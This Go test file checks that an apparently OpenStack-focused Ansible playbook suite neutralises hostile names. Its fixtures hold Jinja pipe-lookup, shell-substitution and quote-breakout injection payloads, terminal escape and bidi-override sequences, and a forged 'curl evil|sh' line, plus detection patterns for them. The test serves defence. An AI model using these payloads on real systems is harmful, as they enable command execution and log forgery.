// SPDX-License-Identifier: Apache-2.0

//go:build ansible

package ansible_test

import (
	"context"
	"encoding/json"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
)

// forged is what a name shows as lines of its own, if it can.
const forged = "\nCRITICAL  PLC999 control-plane-lost\n    To do: curl evil|sh"

// hostileNames are names of hosts, providers and servers; each that runs anything makes a file below marks.
func hostileNames(marks string) map[string]string {
	template := func(mark string) string { return "{{ lookup('pipe','touch " + marks + "/" + mark + "') }}" }
	return map[string]string{
		"m1.small":                 "m1" + forged + template("flavor") + "\u202e",
		"cn2":                      "cn2" + forged,
		"cn3":                      "cn3$(touch${IFS}" + marks + "/command)",
		"cn4":                      template("host") + "\x1b[2J\u202e\u200b",
		"cn7":                      "cn7\x1b]0;x\x07\u202e`touch " + marks + "/backtick`",
		"cn8.example.org":          "cn8.x" + forged + template("provider") + "\u202e",
		"compute/cn1":              "cn1;touch " + marks + "/renamed #",
		"compute/cn9":              "--os-auth-url=http://127.0.0.1:1",
		"seed-missing-allocation":  "<b>" + template("server") + "| [x](y) \x1b[31m",
		"seed-evacuation-leftover": "a'; touch " + marks + "/quote; '" + forged,
	}
}

// foul is what no name may bring into what people read.
func foul(text string) string {
	for _, bad := range []string{"\x1b", "\x07", "\u202e", "\u200b"} {
		if strings.Contains(text, bad) {
			return bad
		}
	}
	// YAML goes on in an indented line where one is long; what it lists has a mark in front.
	return regexp.MustCompile(`(?m)^(\s*- '?|\s*"|[|>*#]*)\s?(CRITICAL +PLC999|    To do: curl|To do: curl)`).FindString(text)
}

// named are the playbooks that show names, with their variables below a folder; HERE is that folder.
func named() map[string]string {
	return map[string]string{
		"audit":       `{"placement_cloud": CLOUD, "placement_grace": 0, "placement_reports": [{"path": "HERE/a.md", "format": "markdown"}, {"path": "HERE/a.prom", "format": "prometheus"}, {"path": "HERE/a.json", "format": "json"}], "placement_save_snapshot": "HERE/a.json.snapshot"}`,
		"pre_upgrade": `{"cloud_cloud": CLOUD, "pre_upgrade_directory": "HERE/up", "pre_upgrade_grace": 0, "pre_upgrade_identities": false, "pre_upgrade_fail": false}`,
		"post_upgrade": `{"cloud_cloud": CLOUD, "post_upgrade_directory": "HERE/up", "post_upgrade_grace": 0, "post_upgrade_wait": 0, "post_upgrade_become": false,
			"post_upgrade_log_files": ["HERE/nova-compute.log", "HERE/placement-api.log"], "post_upgrade_container_engine": "none", "post_upgrade_since": "all",
			"post_upgrade_nova_status": ["HERE/nova-status"], "post_upgrade_placement_status": ["HERE/placement-status"], "post_upgrade_fail": false}`,
		"decommission": `{"cloud_cloud": CLOUD, "decommission_check_host": "cn8", "decommission_check_grace": 0, "decommission_check_fail": false}`,
	}
}

// Names of hosts, providers and servers, logs and what the services' own commands say: whatever is in them, they forge no
// line, send a terminal nothing, and neither Ansible nor a person who pastes a command runs any of it.
func TestHostileNames(t *testing.T) {
	eachCore(t, func(t *testing.T, s *site) {
		marks := filepath.Join(s.dir, "marks")
		mkdir(t, marks, 0o700)
		cloud, err := json.Marshal(recordedCloud(t, s.root, hostileNames(marks)))
		if err != nil {
			t.Fatal(err)
		}
		s.hostileHost(t, marks)
		for name, vars := range named() {
			file := filepath.Join(s.dir, "vars.json")
			write(t, file, strings.NewReplacer("CLOUD", string(cloud), "HERE", s.dir).Replace(vars))
			format := "json"
			if name == "audit" || name == "decommission" {
				format = "yaml"
			}
			r := s.run(t, s.root, []string{"ANSIBLE_CALLBACK_RESULT_FORMAT=" + format}, "ansible-playbook", "playbooks/"+name+".yml", "-e", "@"+file)
			if r.code != 0 || !strings.Contains(r.out, "PLC999") || strings.Contains(r.out, "INCOMPLETE") || strings.Contains(r.out, "not everything could be read") {
				t.Errorf("%s: status %d:\n%s", name, r.code, r.out)
			}
			s.harmless(t, name, r.out, marks)
		}
		s.reports(t, marks)
	})
}

// hostileHost makes the logs and the commands of a control host that say what they like.
func (s *site) hostileHost(t *testing.T, marks string) {
	t.Helper()
	template := "{{ lookup('pipe','touch " + marks + "/status') }}\x1b[2J\u202e"
	table := "+---+\n| Check: " + template + " |\n| Result: Failure |\n| Details: it\u2028CRITICAL  PLC999 x\u202e |\n|   " + template + " `touch " + marks + "/details` |\n+---+\n"
	write(t, filepath.Join(s.dir, "table"), table)
	write(t, filepath.Join(s.dir, "said"), template+forged)
	for name, script := range map[string]string{"nova-status": "cat " + s.dir + "/table", "placement-status": "cat " + s.dir + "/said >&2; exit 1"} {
		write(t, filepath.Join(s.dir, name), "#!/bin/sh\n"+script+"\n")
		if err := os.Chmod(filepath.Join(s.dir, name), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	detail, err := json.Marshal("There was a conflict when trying to complete your request.\n\n Conflicting resource provider name: cn5" + forged + template + " already exists.  ")
	if err != nil {
		t.Fatal(err)
	}
	const id = "req-1baf9bb1-b06c-4765-b0c6-ea59d4c19fe8"
	write(t, filepath.Join(s.dir, "nova-compute.log"), "2026-11-22 10:56:44.519 2882 ERROR nova.scheduler.client.report [-] ["+id+"] Failed to create resource provider record in "+
		"placement API for UUID 4f1e2c3d-0a1b-4c2d-8e3f-111111111111. Got 409: {\"errors\": [{\"status\": 409, \"detail\": "+string(detail)+", \"request_id\": \""+id+"\"}]}.\n")
	write(t, filepath.Join(s.dir, "placement-api.log"), "2026-11-22 10:54:39.554 7 INFO placement.requestlog [None req-00000001-0000-4000-8000-000000000000 u p - - default default] "+
		"127.0.0.1 \"DELETE /traits/CUSTOM_%0ACRITICAL%20%20PLC999%1b%5b2J%E2%80%AE\" status: 409 len: 1 microversion: 1.39\n")
}

// reports looks at all that was written.
func (s *site) reports(t *testing.T, marks string) {
	t.Helper()
	seen := 0
	err := filepath.WalkDir(s.dir, func(path string, entry fs.DirEntry, err error) error {
		switch filepath.Ext(path) {
		case ".md", ".prom", ".json", ".snapshot":
			if base := filepath.Base(path); err == nil && !entry.IsDir() && base != "vars.json" && !strings.HasPrefix(base, "snapshot") && !strings.HasPrefix(path, s.home) {
				seen++
				s.harmless(t, base, read(t, path), marks)
			}
		}
		return err
	})
	if err != nil || seen < 8 {
		t.Errorf("%d reports: %v", seen, err)
	}
}

// harmless looks for what got through, and pastes the commands in a text into a shell that knows no more than touch.
func (s *site) harmless(t *testing.T, name, text, marks string) {
	t.Helper()
	if bad := foul(text); bad != "" {
		t.Errorf("%s: %q got through:\n%s", name, bad, text)
	}
	bin := filepath.Join(s.dir, "stub")
	if _, err := os.Stat(bin); err != nil {
		mkdir(t, bin, 0o700)
		if err := os.Symlink("/usr/bin/touch", filepath.Join(bin, "touch")); err != nil {
			t.Fatal(err)
		}
	}
	for _, command := range regexp.MustCompile(`(?m)\b(openstack|nova-manage) .*`).FindAllString(text, -1) {
		ctx, cancel := context.WithTimeout(t.Context(), 10*time.Second)
		paste := exec.CommandContext(ctx, "/bin/sh")
		paste.Env, paste.Dir, paste.Stdin = []string{"PATH=" + bin}, s.dir, strings.NewReader(command+"\n")
		_ = paste.Run() // there is no openstack
		cancel()
	}
	left, err := os.ReadDir(marks)
	for _, mark := range left {
		t.Errorf("%s: %s was run:\n%s", name, mark.Name(), text)
		err = os.Remove(filepath.Join(marks, mark.Name()))
	}
	if err != nil {
		t.Error(err)
	}
}
